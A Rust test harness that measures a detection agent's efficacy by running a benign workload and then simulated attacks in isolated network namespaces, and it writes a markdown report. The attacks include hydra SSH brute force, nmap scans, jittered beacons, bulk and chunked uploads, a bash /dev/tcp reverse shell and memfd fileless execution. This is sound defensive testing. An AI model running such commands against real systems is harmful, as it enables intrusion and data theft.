//! Detection efficacy (`cargo xtask efficacy`, root): one real agent in its
//! default configuration (response in dry-run, the repository's playbooks)
//! in fresh network namespaces. First a benign workload compressed into a
//! few minutes — every alert raised during it is a false alert — then real
//! attacks, each timed from its start to its alert and to the playbook's
//! (dry-run) action. Prints a table and writes docs/efficacy.md.
//!
//!   efficacy [--minutes N] [--doc PATH]

use std::collections::{BTreeMap, HashSet};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use serde_json::Value;
use vigil_integration::*;

const S: u8 = 249;
/// How long an attack's alert may take before it counts as missed; the
/// default flow timers (not the test ones) decide most of it.
const ALERT_WAIT: Duration = Duration::from_secs(90);
/// After an alert, how long the playbook's records may take.
const ACTION_WAIT: Duration = Duration::from_secs(10);

/// A copy of /bin/true run from a memfd (`execv` of /proc/self/fd/N).
const FILELESS: &str = r#"
import os
fd = os.memfd_create("vigil-efficacy", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["payload"])
"#;

/// A small xorshift generator: the workload's randomness, seeded and printed.
struct Rng(u64);

impl Rng {
    fn unit(&mut self) -> f64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) as f64 / (1u64 << 53) as f64
    }

    /// An exponential wait of mean `mean_s` (Poisson arrivals), capped.
    fn poisson_wait(&mut self, mean_s: f64) -> Duration {
        let u = self.unit().max(1e-9);
        Duration::from_secs_f64((-u.ln() * mean_s).min(mean_s * 5.0))
    }

    /// `period_s` ± `jitter` (a fraction).
    fn jittered(&mut self, period_s: f64, jitter: f64) -> Duration {
        Duration::from_secs_f64(period_s * (1.0 + jitter * (2.0 * self.unit() - 1.0)))
    }
}

fn in_ns(ns: &str, cmd: &str, args: &[&str]) -> Command {
    let mut c = Command::new("ip");
    c.args(["netns", "exec", ns, cmd]).args(args);
    c
}

/// Runs quietly; whether it succeeded.
fn quiet(mut c: Command) -> bool {
    c.stdout(Stdio::null())
        .stderr(Stdio::null())
        .stdin(Stdio::null())
        .status()
        .map(|s| s.success())
        .unwrap_or(false)
}

fn web_server(ns: &str, port: u16, dir: &Path, script: &Path) -> GroupGuard {
    let mut g = GroupGuard::spawn(
        in_ns(ns, "/usr/bin/python3", &[])
            .arg(script)
            .arg(port.to_string())
            .arg(dir)
            .stdout(Stdio::piped()),
    );
    read_json_line(&mut g.0);
    g
}

fn secs(from: DateTime<Utc>, to: DateTime<Utc>) -> f64 {
    (to - from).num_microseconds().unwrap_or(0) as f64 / 1e6
}

/// One attack's outcome.
struct Row {
    name: &'static str,
    expect: &'static str,
    detected: bool,
    alert_s: Option<f64>,
    summary: String,
    response: String,
    response_s: Option<f64>,
}

/// A record and when it appeared.
type Seen = (DateTime<Utc>, Value);

/// Every line the agent writes, stamped with when it appeared: a reader
/// polling every 20 ms, as an operator's tail would see it.
struct Tail {
    lines: Arc<Mutex<Vec<Seen>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Tail {
    fn follow(path: PathBuf) -> Tail {
        let lines = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (l, st) = (lines.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let mut offset = 0usize;
            let mut partial = String::new();
            while !st.load(Ordering::Relaxed) {
                if let Ok(all) = std::fs::read(&path) {
                    if all.len() > offset {
                        partial.push_str(&String::from_utf8_lossy(&all[offset..]));
                        offset = all.len();
                        let now = Utc::now();
                        while let Some(i) = partial.find('\n') {
                            let line: String = partial.drain(..=i).collect();
                            if let Ok(v) = serde_json::from_str::<Value>(&line) {
                                if let Ok(mut g) = l.lock() {
                                    g.push((now, v));
                                }
                            }
                        }
                    }
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        });
        Tail {
            lines,
            stop,
            thread: Some(thread),
        }
    }

    fn snapshot(&self) -> Vec<Seen> {
        self.lines.lock().map(|g| g.clone()).unwrap_or_default()
    }

    fn alerts(&self) -> Vec<Seen> {
        self.snapshot()
            .into_iter()
            .filter(|(_, r)| r["kind"] == "alert")
            .collect()
    }
}

impl Drop for Tail {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Waits for the first alert written since `start` from `detector`
/// carrying a technique starting with `technique` and satisfying `pred`,
/// then for the first (dry-run) action of the incident it opened.
fn judge(
    tail: &Tail,
    name: &'static str,
    expect: &'static str,
    start: DateTime<Utc>,
    pred: &dyn Fn(&Value) -> bool,
) -> Row {
    let (detector, technique) = expect.split_once('/').unwrap_or((expect, ""));
    let began = Instant::now();
    let alert = loop {
        let found = tail.alerts().into_iter().find(|(seen, a)| {
            a["detector"] == detector && has_technique(a, technique) && *seen >= start && pred(a)
        });
        if found.is_some() || began.elapsed() > ALERT_WAIT {
            break found;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let Some((alert_seen, alert)) = alert else {
        return Row {
            name,
            expect,
            detected: false,
            alert_s: None,
            summary: String::new(),
            response: "—".into(),
            response_s: None,
        };
    };
    let id = alert["id"].as_str().unwrap_or("").to_string();
    let began = Instant::now();
    let (response, response_s) = loop {
        let recs = tail.snapshot();
        let incident = recs
            .iter()
            .find(|(_, r)| r["kind"] == "decision" && r["alert"] == id.as_str())
            .map(|(_, d)| {
                (
                    d["incident"].as_str().unwrap_or("").to_string(),
                    d["playbook"].as_str().unwrap_or("?").to_string(),
                )
            });
        // Dry-run actions name their incident in `detail`.
        let action = incident.as_ref().and_then(|(inc, _)| {
            let detail = format!("incident {inc}");
            recs.iter().find(|(_, r)| {
                r["kind"] == "action"
                    && (r["incident"] == inc.as_str() || r["detail"] == detail.as_str())
            })
        });
        match (incident, action) {
            (Some((_, book)), Some((seen, a))) => {
                break (
                    format!(
                        "{book}: {} {} ({})",
                        a["action"].as_str().unwrap_or("?"),
                        a["target"].as_str().unwrap_or(""),
                        a["state"].as_str().unwrap_or("?")
                    ),
                    Some(secs(start, *seen)),
                )
            }
            (Some((_, book)), None) if began.elapsed() > ACTION_WAIT => {
                break (format!("{book}: incident opened, no action"), None)
            }
            (None, _) if began.elapsed() > ACTION_WAIT => {
                break ("no playbook matches".into(), None)
            }
            _ => std::thread::sleep(Duration::from_millis(100)),
        }
    };
    Row {
        name,
        expect,
        detected: true,
        alert_s: Some(secs(start, alert_seen)),
        summary: alert["summary"].as_str().unwrap_or("").to_string(),
        response,
        response_s,
    }
}

fn mentions(a: &Value, ip: &str) -> bool {
    a["entities"].to_string().contains(&format!("\"{ip}\""))
}

/// Everything the run shares: namespaces, agent, servers, scratch files.
struct Lab {
    topo: Topology,
    /// Kept alive for the run; stopped on drop.
    _agent: Agent,
    tail: Tail,
    scratch: TempDir,
    script: PathBuf,
    www: PathBuf,
}

impl Lab {
    fn host(&self, cmd: &str, args: &[&str]) -> Command {
        in_ns(&self.topo.h, cmd, args)
    }
}

/// The benign workload for `minutes`; returns how many of each job ran.
fn benign(lab: &Lab, minutes: f64, seed: u64) -> BTreeMap<&'static str, u64> {
    let topo = &lab.topo;
    let (b, m) = (&topo.peers[1], &topo.peers[2]);
    let _s1 = web_server(b, 8001, &lab.www, &lab.script);
    let _s2 = web_server(b, 8002, &lab.www, &lab.script);
    let _s3 = web_server(m, 8003, &lab.www, &lab.script);
    let askpass = lab.scratch.0.join("askpass.sh");
    std::fs::write(&askpass, format!("#!/bin/sh\necho '{PASSWORD}'\n")).expect("askpass");
    set_mode(&askpass, 0o755);
    let data = lab.scratch.0.join("data");
    std::fs::create_dir_all(&data).expect("data dir");
    for i in 0..20 {
        std::fs::write(
            data.join(format!("doc-{i}.txt")),
            format!("note {i}\n").repeat(500),
        )
        .expect("data file");
    }
    let servers = [
        format!("{}:8001", topo.peer_ip(2)),
        format!("{}:8002", topo.peer_ip(2)),
        format!("{}:8003", topo.peer_ip(3)),
    ];
    let end = Instant::now() + Duration::from_secs_f64(minutes * 60.0);
    let mut rng = Rng(seed | 1);
    let mut next: BTreeMap<&'static str, Instant> = BTreeMap::new();
    let mut count: BTreeMap<&'static str, u64> = BTreeMap::new();
    let now = Instant::now();
    for job in [
        "ssh_login",
        "download",
        "packages",
        "backup",
        "cron",
        "browse",
    ] {
        next.insert(job, now);
    }
    while Instant::now() < end {
        let Some((&job, &at)) = next.iter().min_by_key(|(_, t)| **t) else {
            break;
        };
        if let Some(wait) = at.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait.min(end.saturating_duration_since(Instant::now())));
            if Instant::now() >= end {
                break;
            }
        }
        let ok = match job {
            "ssh_login" => {
                let mut c = in_ns(
                    b,
                    "ssh",
                    &[
                        "-o",
                        "StrictHostKeyChecking=no",
                        "-o",
                        "UserKnownHostsFile=/dev/null",
                        "-o",
                        "PubkeyAuthentication=no",
                        "-o",
                        "PreferredAuthentications=password",
                        "-o",
                        "ConnectTimeout=5",
                        "-p",
                        "2222",
                    ],
                );
                c.arg(format!("{USER}@{}", topo.host_ip(2)))
                    .arg("true")
                    .env("SSH_ASKPASS", &askpass)
                    .env("SSH_ASKPASS_REQUIRE", "force")
                    .env("DISPLAY", ":0");
                next.insert(job, Instant::now() + rng.poisson_wait(20.0));
                quiet(c)
            }
            "download" => {
                let url = format!("http://{}/big.bin", servers[0]);
                next.insert(job, Instant::now() + rng.poisson_wait(8.0));
                quiet(lab.host(
                    "curl",
                    &["-sS", "--fail", "--max-time", "20", "-o", "/dev/null", &url],
                ))
            }
            "packages" => {
                next.insert(job, Instant::now() + rng.poisson_wait(30.0));
                quiet(lab.host("dpkg", &["-l"]))
                    && quiet(lab.host("apt-cache", &["policy", "openssh-server", "curl"]))
            }
            "backup" => {
                let tarball = lab.scratch.0.join("backup.tar.gz");
                next.insert(job, Instant::now() + rng.jittered(30.0, 0.2));
                quiet(lab.host(
                    "tar",
                    &[
                        "-czf",
                        &tarball.to_string_lossy(),
                        "-C",
                        &lab.scratch.0.to_string_lossy(),
                        "data",
                    ],
                ))
            }
            "cron" => {
                // A health check every 15 s ± 10 %, as a monitoring cron job.
                let url = format!("http://{}/health.txt", servers[2]);
                next.insert(job, Instant::now() + rng.jittered(15.0, 0.1));
                quiet(lab.host(
                    "sh",
                    &[
                        "-c",
                        &format!(
                            "df -h >/dev/null; curl -sS --fail --max-time 5 -o /dev/null {url}"
                        ),
                    ],
                ))
            }
            _ => {
                // A page: a burst of small GETs spread over the servers.
                let n = 5 + (rng.unit() * 20.0) as usize;
                let mut all = true;
                for i in 0..n {
                    let url = format!("http://{}/asset-{}.txt", servers[i % 3], i % 8);
                    all &= quiet(lab.host(
                        "curl",
                        &["-sS", "--fail", "--max-time", "5", "-o", "/dev/null", &url],
                    ));
                }
                next.insert(job, Instant::now() + rng.poisson_wait(10.0));
                all
            }
        };
        let key = if ok { job } else { "failed" };
        *count.entry(key).or_insert(0) += 1;
    }
    count
}

fn set_mode(p: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

/// The attacks, in order; each returns its row.
fn attacks(lab: &Lab) -> Vec<Row> {
    let topo = &lab.topo;
    let agent = &lab.tail;
    let (a, b) = (topo.peers[0].clone(), topo.peers[1].clone());
    let attacker = topo.peer_ip(1);
    let attacker2 = format!("10.{S}.1.3");
    let peer = topo.peer_ip(2);
    let mut rows = Vec::new();

    // Brute force: hydra against sshd + PAM.
    let start = Utc::now();
    let words: Vec<String> = (0..12).map(|i| format!("guess-{i}")).collect();
    let refs: Vec<&str> = words.iter().map(String::as_str).collect();
    hydra(&a, &topo.host_ip(1), &refs, &lab.scratch.0);
    rows.push(judge(
        agent,
        "hydra ssh brute force",
        "brute_force/T1110",
        start,
        &|r| mentions(r, &attacker),
    ));

    // Connect scan from one address, SYN scan from the other.
    let start = Utc::now();
    quiet(in_ns(
        &a,
        "nmap",
        &["-sT", "-n", "-Pn", "-T4", "-p", "1-200", &topo.host_ip(1)],
    ));
    rows.push(judge(
        agent,
        "nmap connect scan (-sT)",
        "scan/T1046",
        start,
        &|r| mentions(r, &attacker),
    ));
    let start = Utc::now();
    let dev = format!("vg{S}p1");
    quiet(in_ns(
        &a,
        "nmap",
        &[
            "-sS",
            "-S",
            &attacker2,
            "-e",
            &dev,
            "-n",
            "-Pn",
            "-T4",
            "-p",
            "1-200",
            &topo.host_ip(1),
        ],
    ));
    rows.push(judge(
        agent,
        "nmap SYN scan (-sS)",
        "scan/T1046",
        start,
        &|r| mentions(r, &attacker2),
    ));

    // Beacons: raw TCP (netpeer) and HTTP (curl), 500 ms ± 20 %, 48 times.
    let _echo = topo.spawn(&b, &["serve", "0.0.0.0:8080"]);
    let start = Utc::now();
    quiet(netpeer_in(
        &topo.h,
        &["beacon", &format!("{peer}:8080"), "500", "20", "48"],
    ));
    rows.push(judge(
        agent,
        "jittered beacon, raw TCP",
        "beacon/T1071",
        start,
        &|r| r["entities"]["dst_port"] == 8080,
    ));
    let _c2 = web_server(&b, 8090, &lab.www, &lab.script);
    let start = Utc::now();
    let mut rng = Rng(0x5eed);
    for _ in 0..48 {
        let url = format!("http://{peer}:8090/task.txt");
        quiet(lab.host("curl", &["-sS", "--max-time", "2", "-o", "/dev/null", &url]));
        std::thread::sleep(rng.jittered(0.5, 0.2));
    }
    rows.push(judge(
        agent,
        "jittered beacon, HTTP (curl)",
        "beacon/T1071",
        start,
        &|r| r["entities"]["dst_port"] == 8090,
    ));

    // Bulk upload: 1.1 GB to one destination (the default threshold is 1 GiB).
    let start = Utc::now();
    let dst = format!("{peer}:9100");
    let mut srv = topo.spawn_raw(&b, &["tcp-server", &dst, "10"]);
    read_json_line(&mut srv);
    quiet(netpeer_in(&topo.h, &["tcp-client", &dst, "1100000000"]));
    let _ = srv.wait();
    rows.push(judge(
        agent,
        "bulk upload 1.1 GB",
        "exfil/T1048",
        start,
        &|r| r["entities"]["dst_port"] == 9100 || mentions(r, &peer),
    ));

    // Equal-size chunks: ten 200 kB PUTs.
    let chunk = lab.scratch.0.join("chunk.bin");
    std::fs::write(&chunk, vec![b'c'; 200_000]).expect("chunk");
    let _up = web_server(&b, 8005, &lab.www, &lab.script);
    let start = Utc::now();
    for _ in 0..10 {
        let url = format!("http://{peer}:8005/up");
        quiet(lab.host(
            "curl",
            &[
                "-sS",
                "--max-time",
                "10",
                "-o",
                "/dev/null",
                "-T",
                &chunk.to_string_lossy(),
                &url,
            ],
        ));
    }
    rows.push(judge(
        agent,
        "equal-size chunks (10 × 200 kB PUT)",
        "exfil/T1030",
        start,
        &|r| mentions(r, &peer),
    ));

    // DNS-shaped UDP: 800 datagrams of 450 bytes to port 53 in a minute.
    let _dns = topo.spawn(&b, &["serve", "0.0.0.0:53"]);
    let start = Utc::now();
    quiet(netpeer_in(
        &topo.h,
        &["udp-client", &format!("{peer}:53"), "800", "450"],
    ));
    rows.push(judge(
        agent,
        "DNS-shaped UDP, 360 kB to :53",
        "exfil/T1048.003",
        start,
        &|_| true,
    ));

    // Admin-port sweep: SSH and SMB to six internal hosts that refuse.
    for i in 20..26 {
        let _ = Command::new("ip")
            .args([
                "-n",
                &b,
                "addr",
                "add",
                &format!("10.{S}.2.{i}/24"),
                "dev",
                &format!("vg{S}p2"),
            ])
            .status();
    }
    let start = Utc::now();
    for i in 20..26 {
        for port in [22, 445] {
            quiet(netpeer_in(
                &topo.h,
                &["tcp-probe", &format!("10.{S}.2.{i}:{port}"), "1000"],
            ));
        }
    }
    rows.push(judge(
        agent,
        "SSH/SMB admin-port sweep",
        "lateral/T1021",
        start,
        &|_| true,
    ));

    // Reverse shell: a shell whose stdin and stdout are a TCP connection.
    // The listener echoes lines; the shell writes none, so nothing loops.
    let _listener = topo.spawn(&b, &["serve", "0.0.0.0:4444"]);
    let start = Utc::now();
    quiet(lab.host(
        "bash",
        &[
            "-c",
            &format!("exec 3<>/dev/tcp/{peer}/4444; /bin/sh -c 'sleep 1' <&3 >&3 2>&3"),
        ],
    ));
    rows.push(judge(
        agent,
        "reverse shell (sh on a TCP socket)",
        "process/T1059.004",
        start,
        &|_| true,
    ));

    // Fileless: a binary run from a memfd.
    let fileless = lab.scratch.0.join("fileless.py");
    std::fs::write(&fileless, FILELESS).expect("script");
    let start = Utc::now();
    quiet(lab.host("/usr/bin/python3", &[&fileless.to_string_lossy()]));
    rows.push(judge(agent, "memfd exec", "process/T1620", start, &|r| {
        r["entities"]["exe"]
            .as_str()
            .is_some_and(|e| e.contains("vigil-efficacy"))
    }));

    // A hidden executable under /tmp.
    let hidden_dir = PathBuf::from(format!("/tmp/vigil-efficacy-{}", std::process::id()));
    let _ = std::fs::create_dir_all(&hidden_dir);
    let hidden = hidden_dir.join(".cache-helper");
    std::fs::copy("/bin/sleep", &hidden).expect("copy sleep");
    let start = Utc::now();
    quiet(lab.host(&hidden.to_string_lossy(), &["0.5"]));
    let hidden_s = hidden.to_string_lossy().into_owned();
    rows.push(judge(
        agent,
        "hidden exec from /tmp",
        "process/T1564",
        start,
        &|r| r["entities"]["exe"] == hidden_s.as_str(),
    ));
    let _ = std::fs::remove_dir_all(&hidden_dir);
    rows
}

fn fmt_s(s: Option<f64>) -> String {
    s.map(|s| format!("{s:.2} s")).unwrap_or_else(|| "—".into())
}

fn sh(cmd: &str) -> String {
    Command::new("sh")
        .args(["-c", cmd])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

struct Report {
    minutes: f64,
    seed: u64,
    date: String,
    jobs: BTreeMap<&'static str, u64>,
    false_alerts: Vec<Value>,
    evidence_only: Vec<Value>,
    rows: Vec<Row>,
}

/// What the figures do not show; true of the repository as this run found it.
const LIMITS: &str = "
## Documented limits

- Time to alert is bounded by the flow timers for what is judged on a closed or
  idle flow: the DNS-shaped UDP is judged when its flow goes idle
  (`flows.udp_idle_timeout_s`, default 30 s); the chunked upload and the beacons
  when their flows close and the detector next scores.
- The beacon figures use the short window of the detection tests (20 s,
  8 connections); with the default window a beacon is judged over hours, so
  its time to alert in production is of that order, not seconds.
- Response coverage of the shipped playbooks: scans (T1046), beacons (T1071),
  reverse shells (T1059.004, critical) and hidden executables (T1564.001,
  medium) open no incident. `data_exfiltration_block` lists T1030 but requires
  `min_severity: high`, and the exfil detector raises T1030 at medium, so
  equal-size chunks never trigger it. `malware_containment` names T1059 in its
  header comment but not in its trigger.
- The benign workload is a compressed imitation (minutes, not days): it cannot
  show false alerts that need long baselines. The anomaly detector learns for
  up to `detect.anomaly.max_learn_s` (3600 s); the lateral detector reports new
  peers only after `detect.lateral.learn_s` (600 s), which a default 4-minute
  run does not reach (`--minutes 12` crosses it).
- False alerts count every alert the agent raises on the host during the
  benign phase, also those caused by work outside the lab on a shared machine
  (e.g. another test suite's binary that writes an executable under /tmp and
  runs it); each is listed with its process so it can be told apart.
- Machine-paced request bursts can look like a beacon. The browse job sends
  every third GET of a sequential burst of 5–25 `curl` runs to :8001, so
  `curl` → :8001 sees intervals of a few tenths of a second, regular because
  the machine paces them. With an interval median under 1 s the timestamp
  score is the default of 1.0 whatever the spread, the small pages' sizes are
  alike, and the regularity gate, also median-based, passes because the
  intervals inside bursts outnumber the random gaps between them: a
  12-minute run raised `curl beacons to
  10.249.2.2:8001` (medium, score 0.753). Not only the short test window: a
  model of the pattern (every third of a run of requests ~0.15 s apart, equal
  sizes, bursts at Poisson gaps of 10 s, downloads at gaps of 8 s) fed to the
  detector with the shipped windows alerted in the 15-minute window after
  about 6 minutes (score 0.708, five seeds of five). Not fixed: what tells
  these bursts from a fast beacon is the random gaps between them, which the
  median-based scores discount; a fix needs its own measurement against the
  500 ms beacons of the tests and this suite.
";

fn markdown(r: &Report) -> String {
    let detected = r.rows.iter().filter(|x| x.detected).count();
    let mut out = String::new();
    out.push_str("# Detection efficacy\n\n");
    out.push_str("Generated by `sudo -E cargo xtask efficacy");
    if (r.minutes - 4.0).abs() > f64::EPSILON {
        out.push_str(&format!(" --minutes {}", r.minutes));
    }
    out.push_str("` (tests/src/bin/efficacy.rs); do not edit by hand.\n\n");
    out.push_str(&format!(
        "- Date: {}\n- Machine: {}, {} CPUs, kernel {}\n- Workload seed: {}\n\n",
        r.date,
        sh("grep -m1 'model name' /proc/cpuinfo | cut -d: -f2"),
        sh("nproc"),
        sh("uname -r"),
        r.seed
    ));
    out.push_str(
        "One real agent (`vigil run`) in a fresh network namespace with its default \
         configuration: response in **dry-run**, the repository's `playbooks/`. Two keys \
         differ, and only to make the run short: `detect.update_interval_s: 1` and the \
         beacon detector's window of the detection tests (`window_s: 20`, \
         `min_connections: 8`, `scoring_period_s: 2`; the default window is hours), so a \
         beacon of 48 intervals of 500 ms ± 20 % can be judged. Every other threshold is \
         the default (the bulk upload crosses the default 1 GiB). Attackers and servers \
         are other namespaces joined by veth; the tools are real (hydra, nmap, curl, \
         OpenSSH, Python's http.server).\n\n",
    );
    out.push_str(&format!(
        "## Attacks\n\nDetection rate: **{detected}/{}**. Times run from the attack's \
         start (before the tool runs) to when the alert, then the playbook's first \
         (dry-run) action, appeared in the agent's output (read every 20 ms). An attack \
         that lasts is counted from its first packet: hydra takes seconds, the beacons \
         ~24 s, the chunked upload ten curl runs.\n\n",
        r.rows.len()
    ));
    out.push_str("| Attack | Expected detector/technique | Detected | Time to alert | Playbook (dry-run) | Time to block/act |\n|---|---|---|---|---|---|\n");
    for x in &r.rows {
        out.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} |\n",
            x.name,
            x.expect,
            if x.detected { "yes" } else { "**no**" },
            fmt_s(x.alert_s),
            x.response,
            fmt_s(x.response_s)
        ));
    }
    out.push_str("\nAlert summaries:\n\n");
    for x in r.rows.iter().filter(|x| x.detected) {
        out.push_str(&format!(
            "- {}: {}\n",
            x.name,
            x.summary.replace('|', "\\|")
        ));
    }
    out.push_str(&format!(
        "\n## Benign workload ({} min)\n\nJobs that ran (Poisson or jittered intervals): {}.\n\n",
        r.minutes,
        r.jobs
            .iter()
            .map(|(k, v)| format!("{k} {v}"))
            .collect::<Vec<_>>()
            .join(", ")
    ));
    out.push_str(
        "ssh_login: a real `ssh` login with a password through PAM, then `true`; download: \
         curl of a 2 MB file from an HTTP server in a neighbour namespace, exponential gaps \
         of mean 8 s; packages: `dpkg -l` and `apt-cache policy`; backup: `tar -czf` of a \
         scratch directory every 30 s ± 20 %; cron: `df` and a health-check GET every \
         15 s ± 10 %; browse: a burst of 5–25 small GETs over three servers, gaps of mean \
         10 s.\n\n",
    );
    let mut by: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for a in &r.false_alerts {
        by.entry(a["detector"].as_str().unwrap_or("?").to_string())
            .or_default()
            .push(a);
    }
    out.push_str(&format!(
        "False alerts (severity low or above, distinct ids) during the benign phase: \
         **{}**. Evidence-only records (severity info) are not alerts and not counted: {}.\n\n",
        r.false_alerts.len(),
        r.evidence_only.len()
    ));
    for a in &r.evidence_only {
        out.push_str(&format!(
            "- info, {}: {}\n",
            a["detector"].as_str().unwrap_or("?"),
            a["summary"].as_str().unwrap_or("")
        ));
    }
    if !r.evidence_only.is_empty() {
        out.push('\n');
    }
    if !by.is_empty() {
        out.push_str("| Detector | Count | Summaries |\n|---|---|---|\n");
        for (d, list) in &by {
            let mut seen: Vec<String> = Vec::new();
            for a in list {
                let s = a["summary"].as_str().unwrap_or("").replace('|', "\\|");
                if !seen.contains(&s) && seen.len() < 5 {
                    seen.push(s);
                }
            }
            out.push_str(&format!(
                "| {d} | {} | {} |\n",
                list.len(),
                seen.join("<br>")
            ));
        }
        out.push('\n');
    }
    out.push_str(
        "The machine is shared: the agent's process probes see every process on the host, \
         not only the workload's, so a process alert may come from another user's work.\n",
    );
    out.push_str(LIMITS);
    out
}

fn main() {
    require_root();
    let args: Vec<String> = std::env::args().collect();
    let value = |name: &str| {
        args.iter()
            .position(|a| a == name)
            .and_then(|i| args.get(i + 1))
            .cloned()
    };
    let minutes: f64 = value("--minutes")
        .map(|m| m.parse().expect("--minutes takes a number"))
        .unwrap_or(4.0);
    let doc = value("--doc")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/efficacy.md"));
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(1);

    let topo = Topology::new("eff", S);
    let pins = Pins::new("eff");
    let config = format!(
        "metrics:\n  listen: \"\"\nenforce:\n  pin_dir: {}\nplaybooks:\n  dir: {}\n\
         detect:\n  update_interval_s: 1\n  beacon:\n    window_s: 20\n    min_connections: 8\n    scoring_period_s: 2\n",
        pins.pin_dir,
        shipped_playbooks().display()
    );
    let agent = Agent::start_in(Some(&topo.h), &config, TempDir::new("efficacy"));
    let _sshd = Sshd::start(&topo);
    let scratch = TempDir::new("efficacy-lab");
    let script = scratch.0.join("web.py");
    std::fs::write(&script, web_server_script(true)).expect("script");
    let www = scratch.0.join("www");
    std::fs::create_dir_all(&www).expect("www");
    std::fs::write(www.join("big.bin"), vec![b'd'; 2_000_000]).expect("file");
    std::fs::write(www.join("health.txt"), "ok\n").expect("file");
    std::fs::write(www.join("task.txt"), "sleep\n").expect("file");
    for i in 0..8 {
        std::fs::write(
            www.join(format!("asset-{i}.txt")),
            "x".repeat(500 + 700 * i),
        )
        .expect("file");
    }
    let tail = Tail::follow(agent.output.clone());
    let lab = Lab {
        topo,
        _agent: agent,
        tail,
        scratch,
        script,
        www,
    };

    eprintln!("==> benign workload for {minutes} min (seed {seed})");
    let benign_start = Utc::now();
    let jobs = benign(&lab, minutes, seed);
    // Let flows close and the detectors judge the last jobs.
    std::thread::sleep(Duration::from_secs(20));
    let benign_end = Utc::now();
    let mut ids = HashSet::new();
    let mut false_alerts = Vec::new();
    let mut evidence_only = Vec::new();
    for (seen, a) in lab.tail.alerts() {
        if seen < benign_start || seen > benign_end || !ids.insert(a["id"].to_string()) {
            continue;
        }
        if a["severity"] == "info" {
            evidence_only.push(a);
        } else {
            false_alerts.push(a);
        }
    }

    eprintln!("==> attacks");
    let rows = attacks(&lab);

    let report = Report {
        minutes,
        seed,
        date: Utc::now().format("%Y-%m-%d %H:%M UTC").to_string(),
        jobs,
        false_alerts,
        evidence_only,
        rows,
    };
    println!(
        "{:<38} {:<20} {:<8} {:>9} {:>9}  response",
        "attack", "expected", "detected", "alert", "act"
    );
    for x in &report.rows {
        println!(
            "{:<38} {:<20} {:<8} {:>9} {:>9}  {}",
            x.name,
            x.expect,
            if x.detected { "yes" } else { "NO" },
            fmt_s(x.alert_s),
            fmt_s(x.response_s),
            x.response
        );
    }
    println!(
        "false alerts during {minutes} min of benign work: {}",
        report.false_alerts.len()
    );
    for a in &report.false_alerts {
        println!(
            "  {} [{}] {}",
            a["detector"].as_str().unwrap_or("?"),
            a["severity"].as_str().unwrap_or("?"),
            a["summary"].as_str().unwrap_or("")
        );
    }
    std::fs::write(&doc, markdown(&report)).expect("write the report");
    eprintln!("==> wrote {}", doc.display());
    drop(lab);
    drop(pins);
}
